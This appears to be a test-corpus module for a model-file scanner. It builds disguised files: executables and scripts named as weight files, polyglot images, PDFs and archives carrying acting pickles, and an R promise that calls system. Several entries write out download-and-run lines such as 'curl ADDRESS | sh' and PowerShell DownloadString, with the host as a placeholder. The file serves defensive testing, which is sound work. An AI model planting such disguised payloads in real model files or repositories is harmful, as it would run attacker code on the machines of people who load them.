"""Programs that lie among weights or are called like them, and files that are two things at once."""

# ruff: noqa: E501 - tables, one entry a line

import struct
import zlib
from collections.abc import Callable

from tests.corpora.models.attacks.payload import ADDRESS, SHELL
from tests.corpora.models.attacks.pickle_streams import EVIL, PLAIN, checkpoint
from tests.corpora.models.attacks.registry import Acts, Made, Maker, always, attack
from tests.corpora.models.attacks.zips import archive


def _program(
    id: str, says: str, suffix: str, acts: Acts = "use", proof: str = "", needs: tuple[str, ...] = ()
) -> Callable[[Maker], Maker]:
    return attack(
        f"program-{id}", acts=acts, family="programs", says=says, suffix=suffix, proof=proof, needs=needs,
        unproved="" if proof else "has to be started by somebody",
    )  # fmt: skip


def elf(machine: int = 62, kind: int = 2) -> bytes:
    """The head of a Linux program, with nothing to run."""
    head = (
        b"\x7fELF\2\1\1"
        + bytes(9)
        + struct.pack("<HHIQQQIHHHHHH", kind, machine, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    )
    return (
        head + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 120, 120, 4096) + b"\xb0\x3c\x0f\x05" * 8
    )


def pe() -> bytes:
    """The head of a Windows program, with nothing to run."""
    stub = b"MZ" + bytes(58) + struct.pack("<I", 128)
    return (
        stub.ljust(128, b"\0")
        + b"PE\0\0"
        + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
        + struct.pack("<H", 0x20B)
        + bytes(400)
    )


def macho() -> bytes:
    """The head of a macOS program, with nothing to run."""
    return struct.pack("<8I", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0, 0) + bytes(200)


_PROGRAMS: dict[str, tuple[str, str, bytes]] = {
    "elf": ("a Linux program called .safetensors", ".safetensors", elf()),
    "elf-library": ("a Linux library called .bin", ".bin", elf(kind=3)),
    "elf-arm": ("a Linux program for another processor called .pt", ".pt", elf(183)),
    "pe": ("a Windows program called .onnx", ".onnx", pe()),
    "macho": ("a macOS program called .gguf", ".gguf", macho()),
    "macho-fat": ("a macOS program for two processors called .model", ".model", struct.pack(">7I", 0xCAFEBABE, 2, 0x01000007, 3, 4096, 100, 12) + bytes(64)),
    "shell": ("a shell script called .bin", ".bin", f"#!/bin/sh\n{SHELL}\ncurl {ADDRESS} | sh\n".encode()),
    "python": ("a Python script called .pt", ".pt", f"#!/usr/bin/env python3\nimport os\nos.system({SHELL!r})\n".encode()),
    "perl": ("a Perl script called .h5", ".h5", f"#!/usr/bin/perl\nsystem('{SHELL}');\n".encode()),
    "batch": ("a Windows batch file", ".bat", b"@echo off\r\npowershell -enc AAAA\r\n"),
    "powershell": ("a PowerShell script", ".ps1", f"Invoke-Expression (New-Object Net.WebClient).DownloadString('{ADDRESS}')\n".encode()),
    "javascript": ("a script for Windows' host", ".js", f"new ActiveXObject('WScript.Shell').Run('{SHELL}');\n".encode()),
    "wasm": ("a WebAssembly module called .bin", ".bin", b"\0asm\1\0\0\0" + bytes(32)),
    "class": ("a Java class called .weights", ".weights", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(64)),
    "desktop": ("a desktop entry that starts a program", ".desktop", f"[Desktop Entry]\nType=Application\nName=w\nExec=sh -c '{SHELL}'\n".encode()),
    "pyc": ("compiled Python called .dat", ".dat", b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(60)),
    "html": ("a page with a script, called model.json", ".json", f"<html><script>fetch('{ADDRESS}')</script></html>".encode()),
    "svg": ("a drawing with a script", ".svg", f"<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('{ADDRESS}')</script></svg>".encode()),
    "ape": ("a program for every system at once, as llamafiles are", ".llamafile", b"MZqFpD='\n" + bytes(55) + struct.pack("<I", 128) + bytes(60) + b"PE\0\0" + bytes(200) + b"'\n#'\"\n" + SHELL.encode() + b"\n"),
}  # fmt: skip
for _id, (_says, _suffix, _whole) in _PROGRAMS.items():
    _program(_id, _says, _suffix)(always(_whole))


@_program("elf-in-checkpoint", "a Linux library among a checkpoint's tensors", ".pt")
def _() -> Made:
    return archive(*checkpoint(PLAIN, ("archive/data/1", elf(kind=3)), ("archive/extra/ops.so", elf(kind=3))))


@_program("script-in-repository", "a script to run first, in a repository of weights", "")
def _() -> Made:
    return {"config.json": b"{}", "install.sh": f"#!/bin/bash\ncurl -s {ADDRESS} | bash\n".encode()}


@_program("library-in-repository", "a compiled library in a repository of weights", "")
def _() -> Made:
    return {"config.json": b"{}", "ops/custom_ops.so": elf(kind=3)}


# ── Two things at once ───────────────────────────────────────────────────────────────────────────────────────────


def png() -> bytes:
    """A picture of one pixel."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + chunk(b"IEND", b"")
    )


@_program(
    "png-zip", "a picture with an archive behind it that holds a pickle that acts", ".png", "load", "zip"
)
def _() -> Made:
    return archive(("weights.pkl", EVIL), prefix=png())


@_program("png-checkpoint", "a picture with a checkpoint behind it", ".png", "load", "zip")
def _() -> Made:
    return archive(*checkpoint(), prefix=png())


@_program("pickle-zip", "a pickle that acts with a plain archive behind it", ".pt", "load", "first-pickle")
def _() -> Made:
    return archive(("archive/data.pkl", PLAIN), prefix=EVIL)


@_program("zip-pickle", "a plain pickle with an archive behind it that acts", ".pt", "load", "zip")
def _() -> Made:
    return archive(*checkpoint(), prefix=PLAIN)


@_program("pdf-zip", "a document with an archive behind it that acts", ".pdf", "load", "zip")
def _() -> Made:
    return archive(("weights.pkl", EVIL), prefix=b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")


@_program("elf-zip", "a program with an archive behind it, as self-extractors are", ".bin", "load", "zip")
def _() -> Made:
    return archive(("weights.pkl", EVIL), prefix=elf())


@_program(
    "safetensors-zip",
    "safetensors by its head, a checkpoint that acts by its end",
    ".safetensors",
    "load",
    "zip",
)
def _() -> Made:
    from tests.corpora.models.attacks.tensors import safetensors

    whole = safetensors({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}})
    return archive(*checkpoint(), prefix=whole)


@_program("gif-script", "a picture that is a script as well", ".gif")
def _() -> Made:
    return b"GIF89a/*" + bytes(20) + f"*/=1;fetch('{ADDRESS}')//".encode()


@_program(
    "text-pickle",
    "a pickle that is text and reads like a note until its last line",
    ".txt",
    "load",
    "first-pickle",
)
def _() -> Made:
    return b"S'These weights were trained on public data.'\n0cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR."


@_program("tar-zip", "a tar by its head, an archive that acts by its end", ".tar", "load", "zip")
def _() -> Made:
    from tests.corpora.models.attacks.repositories import tar

    return archive(*checkpoint(), prefix=tar({"notes.txt": b"weights"}))


@_program("rds-call", "R data whose promise is a call, evaluated when it is looked at", ".rds", "use")
def _() -> Made:
    """A promise of `system("touch …")`: unserialising keeps it, the first look evaluates it."""

    def text(value: str) -> bytes:
        return struct.pack(">ii", 0x00040009, len(value)) + value.encode()

    symbol = struct.pack(">i", 1) + text("system")
    string = struct.pack(">ii", 0x10, 1) + text(SHELL)
    call = struct.pack(">i", 6) + symbol + struct.pack(">i", 2) + string + struct.pack(">i", 0xFE)
    promise = struct.pack(">i", 0x405) + struct.pack(">i", 0xFD) + struct.pack(">i", 0xFC) + call
    return b"X\n" + struct.pack(">iii", 2, 0x00040301, 0x00020300) + promise
